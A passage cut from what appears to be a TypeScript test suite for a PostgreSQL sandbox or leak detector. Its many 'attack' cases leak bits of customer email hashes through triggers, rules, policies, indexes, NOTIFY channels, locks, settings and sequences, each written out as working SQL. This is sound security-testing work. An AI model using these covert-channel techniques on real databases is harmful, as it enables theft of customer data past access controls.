  attack('a row that is asked for the code, again and again', async (attacker) => written(KEPT, `CREATE SEQUENCE public.OWN_q; CREATE TYPE public.OWN_y AS (a int); CREATE FUNCTION public.OWN_n(public.OWN_y) RETURNS int LANGUAGE plpgsql AS $$ BEGIN ${STEP} RETURN 0; END $$`,
    ...Array.from({ length: Math.ceil(attacker.customers / 30) }, () => `SELECT ${times(960, () => '(r).OWN_n')} FROM (SELECT ROW(1)::public.OWN_y AS r) s`), READ)(attacker), 'lax');
});

/** Nothing in the catalog shows afterwards what ran. */
group('code that comes and goes in a transaction', 'derived copies', () => {
  const ASKING = functionOf(IF_SET);
  const ROWS = 'CREATE TABLE public.OWN_w (k int, n int); INSERT INTO public.OWN_w SELECT k FROM KEYS k';
  const bodies: readonly (readonly [string, string, string])[] = [
    ['asks and writes', 'IF public.bit_of(NEW.k) = 1 THEN INSERT INTO public.OWN_kept VALUES (NEW.k); END IF; RETURN NEW;', READ],
    ['writes what it reads', 'INSERT INTO public.OWN_kept SELECT NEW.k WHERE public.bit_of(NEW.k) = 1; RETURN NEW;', READ],
    ['fills the row', 'NEW.n := public.bit_of(NEW.k); RETURN NEW;', 'SELECT k FROM public.OWN_w WHERE n = 1'],
  ];
  for (const [what, body, read] of bodies) {
    attack(`a trigger that ${what}`, written(KEPT, ROWS, `CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN ${body} END $$`, 'BEGIN; CREATE TRIGGER t BEFORE UPDATE ON public.OWN_w FOR EACH ROW EXECUTE FUNCTION public.OWN_t(); UPDATE public.OWN_w SET k = k; DROP TRIGGER t ON public.OWN_w; COMMIT', read), 'lax');
    attack(`a trigger and its function, which ${what}`, written(KEPT, ROWS, `BEGIN; CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN ${body} END $$; CREATE TRIGGER t BEFORE UPDATE ON public.OWN_w FOR EACH ROW EXECUTE FUNCTION public.OWN_t(); UPDATE public.OWN_w SET k = k; DROP FUNCTION public.OWN_t CASCADE; COMMIT`, read), 'lax');
  }
  attack('a check', written(KEPT, ROWS, ASKING, 'BEGIN; ALTER TABLE public.OWN ADD CHECK (public.OWN_f(k) IS NOT NULL); INSERT INTO public.OWN (k) SELECT k FROM public.OWN_w; ALTER TABLE public.OWN DROP CONSTRAINT OWN_k_check; COMMIT', READ), 'lax');
  attack('an operator', written(KEPT, ASKING, 'BEGIN; CREATE OPERATOR public.<!~ (FUNCTION = public.OWN_f, RIGHTARG = int); SELECT count(OPERATOR(public.<!~) k) FROM KEYS k; DROP OPERATOR public.<!~ (NONE, int); COMMIT', READ), 'lax');
  attack('an aggregate', written(KEPT, ASKING, 'CREATE FUNCTION public.OWN_s(int, int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN public.OWN_f($2); END $$; BEGIN; CREATE AGGREGATE public.OWN_a(int) (SFUNC = public.OWN_s, STYPE = int); SELECT public.OWN_a(k) FROM KEYS k; DROP AGGREGATE public.OWN_a(int); COMMIT', READ), 'lax');
  attack('a function that calls it', written(KEPT, ASKING, `BEGIN; CREATE FUNCTION public.OWN_g(int) RETURNS int LANGUAGE sql AS 'SELECT public.OWN_f($1)'; SELECT count(public.OWN_g(k)) FROM KEYS k; DROP FUNCTION public.OWN_g; COMMIT`, READ), 'lax');
  attack('a function that asks', written(KEPT, `BEGIN; ${ASKING}; SELECT count(public.OWN_f(k)) FROM KEYS k; DROP FUNCTION public.OWN_f; COMMIT`, READ), 'lax');
  attack('a function that writes what it reads', written(KEPT, 'BEGIN; CREATE FUNCTION public.OWN_f(k int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.OWN_kept SELECT k WHERE public.bit_of(k) = 1; RETURN 0; END $$; SELECT count(public.OWN_f(k)) FROM KEYS k; DROP FUNCTION public.OWN_f; COMMIT', READ), 'lax');
  attack('a function that is replaced and put back', written(KEPT, functionOf('RETURN 0;'), `BEGIN; ${ASKING.replace('CREATE', 'CREATE OR REPLACE')}; SELECT count(public.OWN_f(k)) FROM KEYS k; ${functionOf('RETURN 0;').replace('CREATE', 'CREATE OR REPLACE')}; COMMIT`, READ), 'lax');
  attack('a procedure', written(KEPT, ASKING, 'BEGIN; CREATE PROCEDURE public.OWN_p() LANGUAGE plpgsql AS $$ BEGIN PERFORM public.OWN_f(k) FROM KEYS k; END $$; CALL public.OWN_p(); DROP PROCEDURE public.OWN_p; COMMIT', READ), 'lax');
  attack('a view', written(KEPT, ASKING, 'BEGIN; CREATE VIEW public.OWN_v AS SELECT public.OWN_f(k) AS n FROM KEYS k; SELECT count(n) FROM public.OWN_v; DROP VIEW public.OWN_v; COMMIT', READ), 'lax');
  attack('a rule', written(KEPT, ASKING, 'BEGIN; CREATE RULE r AS ON INSERT TO public.OWN DO INSTEAD SELECT public.OWN_f(NEW.k); INSERT INTO public.OWN (k) SELECT KEYS; DROP RULE r ON public.OWN; COMMIT', READ), 'lax');
  attack('a policy', written(KEPT, ROWS, ASKING, 'BEGIN; ALTER TABLE public.OWN_w ENABLE ROW LEVEL SECURITY; ALTER TABLE public.OWN_w FORCE ROW LEVEL SECURITY; CREATE POLICY p ON public.OWN_w USING (public.OWN_f(k) = 0); SELECT count(*) FROM public.OWN_w; DROP POLICY p ON public.OWN_w; COMMIT', READ), 'lax');
  attack('a domain', written(KEPT, ASKING, 'BEGIN; CREATE DOMAIN public.OWN_d AS int CHECK (public.OWN_f(VALUE) = 0); SELECT count(k::public.OWN_d) FROM KEYS k; DROP DOMAIN public.OWN_d; COMMIT', READ), 'lax');
});

/** The code that writes asks nobody: whoever calls it decides whether it runs. */
const MARKS = "CREATE SEQUENCE public.OWN_q; CREATE FUNCTION public.OWN_m() RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.OWN_kept SELECT last_value + 31 FROM public.OWN_q; RETURN 0; END $$";
group('who calls decides', 'derived copies', () => {
  attack('CASE in the select list', written(KEPT, MARKS, `SELECT count(CASE WHEN ${NEXT} > 0 AND public.bit_of(k) = 1 THEN public.OWN_m() END) FROM KEYS k`, READ), 'lax');
  attack('CASE over the class', written(KEPT, MARKS, `SELECT count(CASE WHEN ${NEXT} > 0 AND (SELECT get_bit(('x' || right(email, 8))::bit(32), k % 32) FROM crm.customers WHERE id = k / 32) = 1 THEN public.OWN_m() END) FROM KEYS k`, READ), 'lax');
  attack('FILTER', written(KEPT, MARKS, `SELECT count(public.OWN_m()) FILTER (WHERE ${NEXT} > 0 AND public.bit_of(k) = 1) FROM KEYS k`, READ), 'lax');
  attack('a list of calls', async (attacker) => written(KEPT, MARKS, ...Array.from({ length: Math.ceil(attacker.customers / 30) }, (_, n) => `SELECT ${Array.from({ length: 960 }, (_each, i) => `CASE WHEN ${NEXT} > 0 AND public.bit_of(${32 + 960 * n + i}) = 1 THEN public.OWN_m() END`).join(', ')}`), READ)(attacker), 'lax');
  attack('a block without a loop', async (attacker) => written(KEPT, MARKS, ...Array.from({ length: Math.ceil(attacker.customers / 30) }, (_, n) => `DO $$ BEGIN ${Array.from({ length: 960 }, (_each, i) => `PERFORM CASE WHEN ${NEXT} > 0 AND public.bit_of(${32 + 960 * n + i}) = 1 THEN public.OWN_m() END;`).join(' ')} END $$`), READ)(attacker), 'lax');
  attack('a block without a loop, by a variable', async (attacker) => written(KEPT, MARKS, ...Array.from({ length: Math.ceil(attacker.customers / 30) }, (_, n) => `DO $$ DECLARE v int; BEGIN ${Array.from({ length: 960 }, (_each, i) => `v := public.bit_of(${32 + 960 * n + i}); PERFORM ${NEXT}; PERFORM CASE WHEN v = 1 THEN public.OWN_m() END;`).join(' ')} END $$`), READ)(attacker), 'lax');
  attack('an operator', written(KEPT, `${MARKS}; CREATE FUNCTION public.OWN_o(int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN public.OWN_m(); END $$; CREATE OPERATOR public.<!~ (FUNCTION = public.OWN_o, RIGHTARG = int)`, `SELECT count(CASE WHEN ${NEXT} > 0 AND public.bit_of(k) = 1 THEN OPERATOR(public.<!~) 1 END) FROM KEYS k`, 'DROP OPERATOR public.<!~ (NONE, int)', READ), 'lax');
  /** A channel, or a table, for each bit of eight customers; `make`: a function that says so; `hear`: numbers of those that it did. */
  const signals = (make: (own: string, i: number) => string, begin: (own: string) => string, hear: (own: string, client: WireClient, answer: readonly WireMessage[]) => Promise<readonly number[]>): Technique => async (attacker) => {
    const { own } = attacker;
    const client = await attacker.connect();
    const bits = Array.from({ length: 256 }, (_, i) => i);
    await client.query(bits.map((i) => make(own, i)).join(';'), 60_000);
    for (let id = 1; id <= attacker.customers; id += 8) {
      await client.query(begin(own));
      const answer = await client.query(`SELECT count(CASE 32 * (c.id - ${id}) + n ${bits.map((i) => `WHEN ${i} THEN public.${own}_${i}()`).join(' ')} END) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 8} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
      attacker.decoded += tokensOfBits((await hear(own, client, answer)).map((bit) => 32 * id + bit));
      await client.query('ROLLBACK');
    }
  };
  attack('functions that NOTIFY on a channel each', signals((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS int LANGUAGE plpgsql AS $$ BEGIN NOTIFY ${own}_c${i}; RETURN 0; END $$`, (own) => Array.from({ length: 256 }, (_, i) => `LISTEN ${own}_c${i}`).join(';'),
    async (own, _client, answer) => answer.filter(({ type }) => type === 'A').map(({ body }) => Number(body.toString('latin1', 4).split('\0')[0]?.slice(own.length + 2)))), 'lax');
  attack('functions that lock a table each', signals((own, i) => `CREATE TABLE public.${own}_l${i} (); CREATE FUNCTION public.${own}_${i}() RETURNS int LANGUAGE plpgsql AS $$ BEGIN LOCK TABLE public.${own}_l${i}; RETURN 0; END $$`, () => 'BEGIN',
    async (own, client) => rowsOf(await client.query(`SELECT substr(relname, ${own.length + 3}) FROM pg_locks l JOIN pg_class c ON c.oid = l.relation WHERE relname LIKE '${own}\\_l%'`)).map(([n]) => Number(String(n)))), 'lax');
  attack('functions that change a setting each', signals((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS int LANGUAGE plpgsql AS $$ BEGIN SET LOCAL search_path = public, ${own}_p${i}; SET LOCAL app.${own}_p${i} = 'x'; RETURN 0; END $$`, () => 'BEGIN',
    async (own, client) => rowsOf(await client.query(`SELECT ${Array.from({ length: 256 }, (_, i) => `current_setting('app.${own}_p${i}', true)`).join(', ')}`))[0]?.flatMap((value, i) => (String(value) === 'x' ? [i] : [])) ?? []), 'lax');
  /** A sequence for each bit of eight customers, and a function that moves it; `make`: the function's text. */
  const sequences = (make: (own: string, i: number) => string): Technique => async (attacker) => {
    const { own } = attacker;
    const client = await attacker.connect();
    const bits = Array.from({ length: 256 }, (_, i) => i);
    await client.query(bits.map((i) => `CREATE SEQUENCE public.${own}_q${i}; ${make(own, i)}`).join(';'), 60_000);
    const look = async (): Promise<ReadonlyMap<number, string>> => new Map(rowsOf(await client.query(`SELECT substr(sequencename, ${own.length + 3}), coalesce(last_value, 0) FROM pg_sequences WHERE sequencename LIKE '${own}\\_q%'`)).map(([n, last]) => [Number(String(n)), String(last)]));
    for (let id = 1, before = await look(); id <= attacker.customers; id += 8) {
      await client.query(`SELECT count(CASE 32 * (c.id - ${id}) + n ${bits.map((i) => `WHEN ${i} THEN public.${own}_${i}()`).join(' ')} END) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 8} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
      const after = await look();
      attacker.decoded += tokensOfBits(bits.filter((bit) => before.get(bit) !== after.get(bit)).map((bit) => 32 * id + bit));
      before = after;
    }
  };
  attack('functions in PL/pgSQL that move a sequence each', sequences((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN RETURN nextval('public.${own}_q${i}'); END $$`), 'lax');
  attack('functions in SQL that move a sequence each', sequences((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS bigint LANGUAGE sql AS $$ SELECT nextval('public.${own}_q${i}') $$`), 'lax');
  attack('a function in SQL', written(KEPT, `${MARKS}; CREATE FUNCTION public.OWN_g(k int) RETURNS int LANGUAGE sql AS 'SELECT CASE WHEN nextval(''public.OWN_q'') > 0 AND public.bit_of(k) = 1 THEN public.OWN_m() END'`, 'SELECT count(public.OWN_g(k)) FROM KEYS k', READ), 'lax');
  attack('a trigger', written(KEPT, `${MARKS}; CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF nextval('public.OWN_q') > 0 AND public.bit_of(NEW.k) = 1 THEN PERFORM public.OWN_m(); END IF; RETURN NEW; END $$; CREATE TRIGGER t AFTER INSERT ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()`, BRING, READ), 'lax');
  attack('a trigger of a table that is written to', written(KEPT, `CREATE SEQUENCE public.OWN_q; CREATE TABLE public.OWN_w (a int); CREATE FUNCTION public.OWN_m() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.OWN_kept SELECT last_value + 31 FROM public.OWN_q; RETURN NULL; END $$; CREATE TRIGGER t BEFORE INSERT ON public.OWN_w FOR EACH ROW EXECUTE FUNCTION public.OWN_m()`,
    `INSERT INTO public.OWN_w SELECT 1 FROM KEYS k WHERE ${NEXT} > 0 AND public.bit_of(k) = 1`, READ), 'lax');
  attack('a rule', written(KEPT, `${MARKS}; CREATE RULE r AS ON INSERT TO public.OWN DO INSTEAD SELECT CASE WHEN nextval('public.OWN_q') > 0 AND public.bit_of(NEW.k) = 1 THEN public.OWN_m() END`, BRING, READ), 'lax');
});

/** What the code reads is written as it is. */
const COPIES = `CREATE FUNCTION public.OWN_f(k int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.OWN_kept SELECT s FROM (SELECT ('x' || right(email, 8))::bit(32) AS hash FROM crm.customers WHERE id = k / 32) c, generate_series(k, k + 31) s WHERE get_bit(hash, s - k) = 1; RETURN 0; END $$`;
const COPIES_IMMUTABLE = `${COPIES}; CREATE FUNCTION public.OWN_i(k int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN PERFORM public.OWN_f(k); RETURN k; END $$`;
const EACH = 'INSERT INTO public.OWN (k) SELECT 32 * n FROM generate_series(1, LAST / 32) n';
group('what is written as it is', 'derived copies', () => {
  attack('by a check', written(KEPT, COPIES, 'ALTER TABLE public.OWN ADD CHECK (public.OWN_f(k) = 0)', EACH, READ), 'lax');
  attack('by a check that comes to rows', written(KEPT, COPIES, EACH, 'ALTER TABLE public.OWN ADD CHECK (public.OWN_f(k) = 0)', READ), 'lax');
  attack('by the check of a domain', written(KEPT, `${COPIES}; CREATE DOMAIN public.OWN_d AS int CHECK (public.OWN_f(VALUE) = 0); CREATE TABLE public.OWN_n (k public.OWN_d)`, EACH.replace('OWN (k)', 'OWN_n'), READ), 'lax');
  attack('by an index that is made', written(KEPT, COPIES_IMMUTABLE, EACH, 'CREATE INDEX ON public.OWN (public.OWN_i(k))', READ), 'lax');
  attack('by an index that is there', written(KEPT, COPIES_IMMUTABLE, 'CREATE INDEX ON public.OWN (public.OWN_i(k))', EACH, READ), 'lax');
  attack('by a generated column', written(KEPT, COPIES_IMMUTABLE, 'CREATE TABLE public.OWN_n (k int, g int GENERATED ALWAYS AS (public.OWN_i(k)) STORED)', EACH.replace('OWN (k)', 'OWN_n'), READ), 'lax');
  attack('by a default', written(KEPT, COPIES, "CREATE SEQUENCE public.OWN_q INCREMENT 32; ALTER TABLE public.OWN ALTER n SET DEFAULT public.OWN_f((32 + nextval('public.OWN_q'))::int - 1)", EACH, READ), 'lax');
  attack('by the condition of a trigger', written(KEPT, `${COPIES}; CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$`, 'CREATE TRIGGER t BEFORE INSERT ON public.OWN FOR EACH ROW WHEN (public.OWN_f(NEW.k) = 1) EXECUTE FUNCTION public.OWN_t()', EACH, READ), 'lax');
  attack('by a policy', written(KEPT, COPIES, EACH, 'ALTER TABLE public.OWN ENABLE ROW LEVEL SECURITY; ALTER TABLE public.OWN FORCE ROW LEVEL SECURITY; CREATE POLICY p ON public.OWN USING (public.OWN_f(k) = 0)', 'SELECT count(*) FROM public.OWN', READ), 'lax');
  attack('by the key of partitions', written(KEPT, COPIES_IMMUTABLE, 'CREATE TABLE public.OWN_n (k int) PARTITION BY RANGE (public.OWN_i(k)); CREATE TABLE public.OWN_1 PARTITION OF public.OWN_n DEFAULT', EACH.replace('OWN (k)', 'OWN_n'), READ), 'lax');
  attack('by REINDEX', written(KEPT, COPIES_IMMUTABLE, 'CREATE INDEX OWN_x ON public.OWN (public.OWN_i(k))', EACH, 'TRUNCATE public.OWN_kept', 'REINDEX INDEX public.OWN_x', READ), 'lax');
});
